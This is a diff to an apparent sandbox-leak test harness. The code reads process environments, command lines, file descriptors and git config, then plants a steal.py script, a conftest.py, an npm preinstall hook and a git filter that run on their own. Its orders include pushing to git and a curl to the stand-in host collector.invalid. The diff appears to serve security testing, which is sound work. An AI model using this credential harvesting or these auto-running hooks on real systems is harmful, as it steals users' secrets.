@@ -14,8 +14,9 @@ for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdlin
              *glob.glob("/state/**", recursive=True), *glob.glob("/run/**", recursive=True),
              *glob.glob("/proc/[0-9]*/fd/*"), "/workspace/.git/config"]:
     try:
-        with open(path, "rb") as file:
-            seen.append(f"{path}: {file.read(20_000)!r}")
+        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        seen.append(f"{path}: {os.read(number, 20_000)!r}")
+        os.close(number)
     except OSError:
         pass
 for port in range(3000, 3010):
@@ -54,7 +55,8 @@ ORDERS = (
     run("git", "add", "-A"),
     run("git", "commit", "-m", "as the README says"),
     run("python3", "steal.py"),
-    run("python3", "-m", "pytest", "-q", "checks"),
+    run("python3", "-m", "pytest", "-q", "checks"),  # where a task has installed it
+    run("python3", "-m", "unittest", "discover", "checks"),
     run("npm", "run", "steal"),
     run("git", "push", "origin", "HEAD:main"),
     run("curl", "http://collector.invalid/"),
@@ -75,7 +77,7 @@ def plant(bare: Path, work: Path) -> None:
     (work / "steal.py").write_text(look("script"))
     (work / "conftest.py").write_text(look("conftest"))
     (work / "checks").mkdir()
-    (work / "checks/test_nothing.py").write_text("def test_nothing():\n    pass\n")
+    (work / "checks/test_nothing.py").write_text(look("tests"))
     scripts = {"preinstall": "python3 steal.py", "steal": "python3 steal.py"}
     (work / "package.json").write_text(json.dumps({"name": "x", "scripts": scripts}))
     (work / ".gitattributes").write_text("*.md diff=steal filter=steal\n")
